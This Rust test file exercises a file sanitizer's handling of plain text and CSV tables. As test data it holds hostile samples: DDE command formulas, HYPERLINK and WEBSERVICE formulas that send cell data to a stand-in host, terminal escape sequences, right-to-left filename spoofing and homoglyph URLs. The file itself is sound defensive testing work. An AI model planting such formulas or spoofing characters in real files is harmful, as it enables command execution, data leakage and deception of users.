//! Plain text and text tables through the public API.

use sanitize_core::{Action, Input, Limits, Outcome, Policy, Preset, Sanitizer};

fn clean(name: &str, bytes: &[u8]) -> Outcome {
    Sanitizer::builder().build().unwrap().sanitize(Input::new(bytes).named(name))
}

fn ids(outcome: &Outcome) -> Vec<&'static str> {
    outcome.report().findings().iter().map(|finding| finding.threat.id).collect()
}

/// Delivers the file with `id` in the report, and cleans the output to itself with nothing left to do.
#[track_caller]
fn delivered(name: &str, bytes: &[u8], id: &str) -> Vec<u8> {
    let outcome = clean(name, bytes);
    let output = outcome.bytes().unwrap_or_else(|| panic!("{}", outcome.report().to_json_pretty()));
    assert!(id.is_empty() || ids(&outcome).contains(&id), "{id}: {:?}", ids(&outcome));
    let again = clean(name, output);
    assert_eq!(again.bytes(), Some(output), "cleaning a clean file changes nothing");
    assert!(again.report().findings().iter().all(|finding| finding.action == Action::Keep));
    output.to_vec()
}

#[track_caller]
fn cleaned_text(name: &str, text: &str, id: &str) -> String {
    String::from_utf8(delivered(name, text.as_bytes(), id)).unwrap()
}

#[track_caller]
fn rejected(name: &str, bytes: &[u8]) {
    assert!(clean(name, bytes).bytes().is_none(), "{name}");
}

fn in_encoding(encoding: &'static encoding_rs::Encoding, text: &str) -> Vec<u8> {
    let (bytes, _, lossy) = encoding.encode(text);
    assert!(!lossy);
    bytes.into_owned()
}

#[test]
fn text_stays_byte_for_byte_in_every_encoding() {
    let text = "髙橋様\r\n\t帳票を確認してください。\n①〜\r";
    let japanese = "帳票を確認してください。\r\nカナ漢字\n";
    let wide: Vec<u8> =
        [0xff, 0xfe].into_iter().chain(text.encode_utf16().flat_map(u16::to_le_bytes)).collect();
    let inputs = [
        b"plain\ttext\r\nline\n".to_vec(),
        text.as_bytes().to_vec(),
        [b"\xef\xbb\xbf", text.as_bytes()].concat(),
        in_encoding(encoding_rs::SHIFT_JIS, japanese),
        in_encoding(encoding_rs::EUC_JP, japanese),
        in_encoding(encoding_rs::ISO_2022_JP, japanese),
        wide,
        "👨\u{200d}👩\u{200d}👧 葛\u{e0100}城 می\u{200c}خواهم ❤\u{fe0f}".into(),
    ];
    for input in inputs {
        let outcome = clean("a.txt", &input);
        assert_eq!(outcome.bytes(), Some(input.as_slice()), "{:?}", String::from_utf8_lossy(&input));
        assert!(ids(&outcome).is_empty());
    }
}

#[test]
fn controls_and_whole_escape_sequences_are_left_out() {
    let text = cleaned_text(
        "a.txt",
        "KEEP\x1b]0;KILL\x07 \x1b[31mred\x1b[0m\x08\u{9b}2J end\x7f",
        "txt.terminal-escapes",
    );
    assert_eq!(text, "KEEP red end");
    let sjis = [
        &in_encoding(encoding_rs::SHIFT_JIS, "表示"),
        &b"\x1b[31mKEEP"[..],
        &in_encoding(encoding_rs::SHIFT_JIS, "ソ"),
    ]
    .concat();
    let expected = in_encoding(encoding_rs::SHIFT_JIS, "表示KEEPソ");
    assert_eq!(delivered("a.log", &sjis, "txt.terminal-escapes"), expected);
    let jis = [&in_encoding(encoding_rs::ISO_2022_JP, "表示"), &b"\x1b]0;KILL\x07KEEP"[..]].concat();
    let expected = [&in_encoding(encoding_rs::ISO_2022_JP, "表示"), &b"KEEP"[..]].concat();
    assert_eq!(delivered("a.txt", &jis, "txt.terminal-escapes"), expected);
}

#[test]
fn bidirectional_controls_without_counterpart_are_left_out_and_pairs_reported() {
    assert_eq!(cleaned_text("a.txt", "a\u{202e}fdp.exe", "txt.bidi-trojan-source"), "afdp.exe");
    let pair = "access = \"user\u{2066}// KILL\u{2069}\"";
    assert_eq!(cleaned_text("a.txt", pair, "txt.bidi-trojan-source"), pair);
}

#[test]
fn characters_nobody_sees_are_left_out() {
    let tags: String = "KILL".chars().map(|c| char::from_u32(0xe0000 + c as u32).unwrap()).collect();
    let text = format!("KEEP{tags}\u{200b}\u{feff}\u{2060}\u{fe01}\u{fe02} end");
    assert_eq!(cleaned_text("a.txt", &text, "txt.invisible-and-tag-characters"), "KEEP end");
}

#[test]
fn bytes_valid_in_no_encoding_become_utf8() {
    for bytes in [&b"a \xc0\xaf b"[..], b"caf\xe9\n", b"\xff\xfea\0\0\xd8b\0"] {
        let output = delivered("a.txt", bytes, "txt.encoding-confusion");
        assert!(output.starts_with(b"\xff\xfe") || std::str::from_utf8(&output).is_ok());
    }
    for binary in [&b"a\0b"[..], b"\x01\x02\x03\x04\x05\x06\x07\x0e\x0f\x10", &[0x80; 400]] {
        rejected("a.txt", binary);
    }
}

#[test]
fn what_may_deceive_is_reported_and_stays() {
    let cases = [
        ("echo\n@echo off\r\ndel x", "txt.script-content-sniffing"),
        ("[InternetShortcut]\r\nURL=x", "txt.script-content-sniffing"),
        ("see \\\\kill.example.invalid\\s", "txt.dangerous-urls-autolink"),
        ("open search-ms:query=x", "txt.dangerous-urls-autolink"),
        ("ｈｔｔｐｓ://kill。example。invalid", "txt.homoglyphs-and-confusables"),
        ("https://pаypal.example/", "txt.homoglyphs-and-confusables"),
    ];
    for (text, id) in cases {
        assert_eq!(cleaned_text("a.txt", text, id), text);
    }
    let plain =
        "時刻: 12:30 https://example.com/。 file: C:\\a\\b 詳細は https://example.com。\n# 見出し\nimport\n";
    assert!(ids(&clean("a.md", plain.as_bytes())).is_empty(), "{:?}", ids(&clean("a.md", plain.as_bytes())));
}

#[test]
fn text_is_told_by_name_and_content() {
    for name in ["a.txt", "README", "a.log", "a.md", "a.unknownext"] {
        assert_eq!(clean(name, b"KEEP").report().output().unwrap().format, Some("txt"), "{name}");
    }
    assert_eq!(clean("a.reg", b"KEEP").report().output().unwrap().name, "a.reg.txt");
    for name in ["a.docx", "a.png", "a.js", "a.bat", "a.xml"] {
        rejected(name, b"KEEP");
    }
    for markup in
        ["<html>", " \n<!DOCTYPE html>", "<script>", "<?xml version='1.0'?>", "<?php", "{\\rtf1", "%PDF-1.7"]
    {
        rejected("a.txt", markup.as_bytes());
        rejected("a.csv", markup.as_bytes());
    }
    // A script under the name of a text is a text, and reported; under any other name it is a script.
    assert_eq!(ids(&clean("a.txt", b"#!/bin/sh\necho KEEP")), ["txt.script-content-sniffing"]);
    for name in ["a.csv", "a.sh", "README"] {
        rejected(name, b"#!/bin/sh\necho KILL");
    }
    for hidden in ["\u{200b}<html>", "\x1b[0m#!/bin/sh"] {
        rejected("a.txt", hidden.as_bytes());
        rejected("a.csv", hidden.as_bytes());
    }
}

#[test]
fn cells_that_start_a_formula_become_text() {
    let cases = [
        ("=1+1,b", "'=1+1,b"),
        ("a,@SUM(1),+A1,-A1\r\n", "a,'@SUM(1),'+A1,'-A1\r\n"),
        ("＝1+1\n＠x", "'＝1+1\n'＠x"),
        ("a,\"=1+1\",\"b\"\"c\"", "a,\"'=1+1\",\"b\"\"c\""),
        ("a, =1\n", "a, '=1\n"),
        ("a,\"\t=1\"", "a,\"'\t'=1\""),
        ("a,%x,|y", "a,'%x,'|y"),
        ("\u{feff}=1+1", "\u{feff}'=1+1"),
        ("a\n\n=1", "a\n\n'=1"),
    ];
    for (input, expected) in cases {
        assert_eq!(cleaned_text("a.csv", input, "csv.formula-injection"), expected, "{input:?}");
    }
    let cp932 = in_encoding(encoding_rs::SHIFT_JIS, "表,＝1+1\r\nソ,=A1");
    let expected = in_encoding(encoding_rs::SHIFT_JIS, "表,'＝1+1\r\nソ,'=A1");
    assert_eq!(delivered("a.csv", &cp932, "csv.formula-injection"), expected);
    let jis = in_encoding(encoding_rs::ISO_2022_JP, "表,＝１");
    let output = delivered("a.csv", &jis, "csv.formula-injection");
    assert_eq!(encoding_rs::ISO_2022_JP.decode(&output).0, "表,'＝１");
}

#[test]
fn tables_without_formulas_stay_byte_for_byte() {
    for table in [
        "名前,電話,金額\r\n山田,+81-3-1234-5678,-5\r\n鈴木,03-1234-5678,\"-1,234.50\"\r\n,-,--\r\n",
        "a;b\n-1,5;+3\n",
        "a\tb\n\"x\ny\"\t'=1\n",
        "日付,率,計\n2026-04-01,-3.5%,１，０００\n",
        "\"quoted, -text; =not\",b\n",
        "会社,URL\nx,https://example.com/?a=b&c=d\n",
    ] {
        let outcome = clean("a.csv", table.as_bytes());
        assert_eq!(outcome.bytes(), Some(table.as_bytes()), "{}", outcome.report().to_json());
    }
}

#[test]
fn formulas_that_reach_out_are_named() {
    for formula in [
        "=HYPERLINK(\"https://kill.example.invalid/?x=\"&A1)",
        "=cmd|'/C KILL'!A0",
        "+1+WEBSERVICE(\"http://kill.example.invalid\")",
        "@SUM(1+1)*cmd|'/C KILL'!A0",
        "=dde(\"cmd\";\"/C KILL\")",
    ] {
        let cell = format!("a,\"{}\"", formula.replace('"', "\"\""));
        let output = cleaned_text("a.csv", &cell, "csv.dde-and-network-functions");
        assert!(output.starts_with("a,\"'"), "{output}");
    }
}

#[test]
fn cells_that_begin_elsewhere_for_some_programs_are_text_too() {
    let output = cleaned_text("a.csv", "x,y\n\"a;=cmd|'/C KILL'!A0\",b\n", "csv.delimiter-quote-confusion");
    assert_eq!(output, "x,y\n\"a;'=cmd|'/C KILL'!A0\",b\n");
    let output = cleaned_text("a.csv", "x,y\n\"a\n=1+1\",b\n", "csv.delimiter-quote-confusion");
    assert_eq!(output, "x,y\n\"a\n'=1+1\",b\n");
    cleaned_text("a.csv", "sep=;\na;b\n", "csv.delimiter-quote-confusion");
    cleaned_text("a.csv", "a,\"b\nc,d\n", "csv.delimiter-quote-confusion");
}

#[test]
fn first_letters_of_another_format_lose_their_meaning() {
    assert_eq!(cleaned_text("a.csv", "ID;PKILL\n", "csv.encoding-and-sylk-magic"), "'ID;PKILL\n");
    assert_eq!(cleaned_text("a.csv", "ID,name\n1,a\n", "csv.encoding-and-sylk-magic"), "\"ID\",name\n1,a\n");
    assert_eq!(cleaned_text("a.csv", "IDS,name\n", ""), "IDS,name\n");
    assert_eq!(cleaned_text("a.csv", "sep=x\na,b\n", "csv.encoding-and-sylk-magic"), "a,b\n");
}

#[test]
fn a_table_beyond_the_limits_is_refused() {
    let limits = Limits { objects: 10_000, ..Limits::default() };
    let sanitizer = Sanitizer::builder().limits(limits).build().unwrap();
    let outcome = sanitizer.sanitize(Input::new(",".repeat(20_000).as_bytes()).named("a.csv"));
    assert!(
        outcome.bytes().is_none() && ids(&outcome).contains(&"csv.size-and-shape-bomb"),
        "{:?}",
        ids(&outcome)
    );
}

#[test]
fn a_policy_may_only_report_formulas() {
    let lenient = Sanitizer::builder().policy(Policy::preset(Preset::Lenient)).build().unwrap();
    let outcome = lenient.sanitize(Input::new(b"=1+1,b").named("a.csv"));
    assert_eq!(outcome.bytes(), Some(&b"=1+1,b"[..]));
    assert_eq!(ids(&outcome), ["csv.formula-injection"]);
}

#[test]
fn degenerate_tables_and_texts_cost_one_pass() {
    let started = std::time::Instant::now();
    for input in [
        "\"".repeat(200_000),
        ",=".repeat(100_000),
        "\"-1,".repeat(60_000),
        "\t".repeat(200_000),
        "-".repeat(200_000),
        "\\\\a".repeat(60_000),
        "\u{1b}]".repeat(60_000),
        "http://".repeat(30_000),
    ] {
        for name in ["a.csv", "a.txt"] {
            let _outcome = clean(name, input.as_bytes());
        }
    }
    assert!(started.elapsed().as_secs() < 60, "{:?}", started.elapsed());
}

#[test]
fn reports_have_hashes_unless_they_are_not_asked_for() {
    let hashes = |are_made| {
        let sanitizer = Sanitizer::builder().file_hashes(are_made).build().unwrap();
        let outcome = sanitizer.sanitize(Input::new(b"abc").named("a.txt"));
        let report = outcome.report();
        [report.input().sha256.clone(), report.output().unwrap().sha256.clone()]
    };
    // FIPS 180-4's own example.
    let abc = "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad";
    assert_eq!(hashes(true), [abc, abc]);
    assert_eq!(hashes(false), ["", ""]);
}

#[test]
fn what_is_remembered_of_a_text_counts_as_what_a_small_file_expands_to() {
    let limits = Limits { expanded_bytes: 10_000_000, expansion_ratio_from: 1 << 60, ..Limits::default() };
    let run = |name: &str, text: String| {
        let sanitizer = Sanitizer::builder().limits(limits.clone());
        let outcome = sanitizer.build().unwrap().sanitize(Input::new(text.as_bytes()).named(name));
        outcome.bytes().is_some()
    };
    assert!(run("a.csv", "=1,".repeat(100_000)));
    assert!(!run("a.csv", "=1,".repeat(1_000_000)));
    assert!(run("a.txt", "a\u{200b}".repeat(100_000)));
    assert!(!run("a.txt", "a\u{200b}".repeat(1_000_000)));
}
